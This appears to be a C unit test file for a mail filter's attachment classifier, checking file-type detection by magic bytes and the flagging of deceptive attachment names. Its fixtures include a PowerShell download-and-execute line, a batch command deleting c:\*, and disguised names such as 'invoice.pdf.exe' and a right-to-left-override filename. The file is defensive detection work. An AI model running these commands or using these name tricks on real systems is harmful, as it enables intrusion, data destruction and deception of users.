/* What a file is by its bytes, and what its name says. */
#include "spam/content.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#define PE_HEAD                                                                                    \
    "MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0\0\0\0\0\0\0"                     \
    "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x40\0\0\0"
#define OLE "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

static void test_contents(void **state)
{
    static const struct {
        const char *rule;
        struct str bytes;
        enum spam_content expected;
    } rows[] = {
        {"nothing", STR_INIT(""), SPAM_CONTENT_OTHER},
        {"a text", STR_INIT("Dear all,\nthe meeting is on Monday.\n"), SPAM_CONTENT_OTHER},
        {"a Windows program", STR_INIT(PE_HEAD "PE\0\0\x64\x86"), SPAM_CONTENT_PE},
        {"a DOS program", STR_INIT(PE_HEAD "\x0e\x1f\xba\x0e"), SPAM_CONTENT_DOS},
        {"a text that begins with MZ", STR_INIT("MZ is the mark of a program, said he, and everybody "
                                                "nodded, for they had read it."), SPAM_CONTENT_OTHER},
        {"a Linux program", STR_INIT("\x7f" "ELF\x02\x01\x01"), SPAM_CONTENT_ELF},
        {"a macOS program", STR_INIT("\xcf\xfa\xed\xfe\x07\0\0\x01"), SPAM_CONTENT_MACHO},
        {"one for two processors", STR_INIT("\xca\xfe\xba\xbe\0\0\0\x02"), SPAM_CONTENT_MACHO},
        {"a Java class", STR_INIT("\xca\xfe\xba\xbe\0\0\0\x34"), SPAM_CONTENT_JAVA},
        {"a shortcut", STR_INIT("L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"), SPAM_CONTENT_LNK},
        {"an HTML application", STR_INIT("<html><head><HTA:APPLICATION ID=x></head>"), SPAM_CONTENT_HTA},
        {"HTML", STR_INIT("<html><script>alert(1)</script></html>"), SPAM_CONTENT_OTHER},
        {"a batch file", STR_INIT("@ECHO OFF\r\ndel c:\\*\r\n"), SPAM_CONTENT_SCRIPT},
        {"VBScript", STR_INIT("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\""), SPAM_CONTENT_SCRIPT},
        {"JScript", STR_INIT("var x = new ActiveXObject('MSXML2.XMLHTTP');"), SPAM_CONTENT_SCRIPT},
        {"JavaScript of a page", STR_INIT("function f() { document.title = 'x'; }"), SPAM_CONTENT_OTHER},
        {"PowerShell", STR_INIT("IEX (New-Object Net.WebClient).DownloadString('http://x/')"), SPAM_CONTENT_SCRIPT},
        {"PowerShell in UTF-16", STR_INIT("\xff\xfeI\0E\0X\0 \0(\0I\0n\0v\0o\0k\0e\0-\0E\0x\0p\0r\0e\0s\0s\0i\0o\0n\0"),
         SPAM_CONTENT_SCRIPT},
        {"an encoded script", STR_INIT("#@~^AAAAAA=="), SPAM_CONTENT_SCRIPT},
        {"a shell script", STR_INIT("#!/bin/sh\necho\n"), SPAM_CONTENT_SHELL},
        {"an old Office document", STR_INIT(OLE "W\0o\0r\0d\0"), SPAM_CONTENT_OLE},
        {"with macros", STR_INIT(OLE "_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0"), SPAM_CONTENT_OLE_MACRO},
        {"an installer", STR_INIT(OLE "\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"), SPAM_CONTENT_MSI},
        {"RTF", STR_INIT("{\\rtf1 hello}"), SPAM_CONTENT_OTHER},
        {"RTF with an object", STR_INIT("{\\rtf1{\\object\\objdata 0105}}"), SPAM_CONTENT_RTF_OBJECT},
        {"PDF", STR_INIT("%PDF-1.4\n1 0 obj"), SPAM_CONTENT_OTHER},
        {"PDF with a script", STR_INIT("%PDF-1.4\n<< /S /JavaScript >>"), SPAM_CONTENT_PDF_ACTION},
        {"zip", STR_INIT("PK\x03\x04\x14\0"), SPAM_CONTENT_ZIP},
        {"7z", STR_INIT("7z\xbc\xaf\x27\x1c\0\x04"), SPAM_CONTENT_SEVEN_ZIP},
        {"rar", STR_INIT("Rar!\x1a\x07\x01\0"), SPAM_CONTENT_RAR},
        {"gzip", STR_INIT("\x1f\x8b\x08\0"), SPAM_CONTENT_GZIP},
    };

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        enum spam_content found = spam_content_of(rows[i].bytes);

        if (found != rows[i].expected)
            fail_msg("%s: %s", rows[i].rule, spam_content_words(found));
    }
}

static void test_positions(void **state)
{
    static char bytes[40000];

    (void)state;
    memcpy(bytes + 32769, "CD001", 5);
    assert_int_equal(spam_content_of(str_make(bytes, sizeof(bytes))), SPAM_CONTENT_ISO);
    assert_int_equal(spam_content_of(str_make(bytes, 32770)), SPAM_CONTENT_OTHER);
    memset(bytes, 0, sizeof(bytes));
    memcpy(bytes, "file", 4);
    memcpy(bytes + 257, "ustar", 5);
    assert_int_equal(spam_content_of(str_make(bytes, 512)), SPAM_CONTENT_TAR);
    /* Of version 7: only its checksum tells. */
    memset(bytes + 257, 0, 5);
    snprintf(bytes + 148, 8, "%06o", 'f' + 'i' + 'l' + 'e' + 8 * ' ');
    assert_int_equal(spam_content_of(str_make(bytes, 512)), SPAM_CONTENT_TAR);
    bytes[10] = 'x';
    assert_int_equal(spam_content_of(str_make(bytes, 512)), SPAM_CONTENT_OTHER);
}

static void test_names(void **state)
{
    static const struct {
        struct str name;
        bool is_program, is_double, has_override, claims_document;
    } rows[] = {
        {STR_INIT("report.pdf"), false, false, false, true},
        {STR_INIT("report.final.v2.docx"), false, false, false, true},
        {STR_INIT("setup.EXE"), true, false, false, false},
        {STR_INIT("setup.exe."), true, false, false, false},
        {STR_INIT("invoice.pdf.exe"), true, true, false, false},
        {STR_INIT("invoice.pdf                                  .scr"), true, true, false, false},
        {STR_INIT("photo\xe2\x80\xaegpj.exe"), true, false, true, false},
        {STR_INIT("archive.tar.gz"), false, false, false, false},
        {STR_INIT("google.com!example.org!1!2.xml"), false, false, false, true},
        {STR_INIT("README"), false, false, false, false},
        {STR_INIT(""), false, false, false, false},
        {STR_INIT("..."), false, false, false, false},
        {STR_INIT("\xe2\x80"), false, false, false, false},
    };

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct spam_name found;

        spam_name_judge(rows[i].name, &found);
        if (found.is_program != rows[i].is_program || found.is_double != rows[i].is_double ||
            found.has_override != rows[i].has_override ||
            found.claims_document != rows[i].claims_document)
            fail_msg("%.*s", STR_ARG(rows[i].name));
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_contents),
        cmocka_unit_test(test_positions),
        cmocka_unit_test(test_names),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
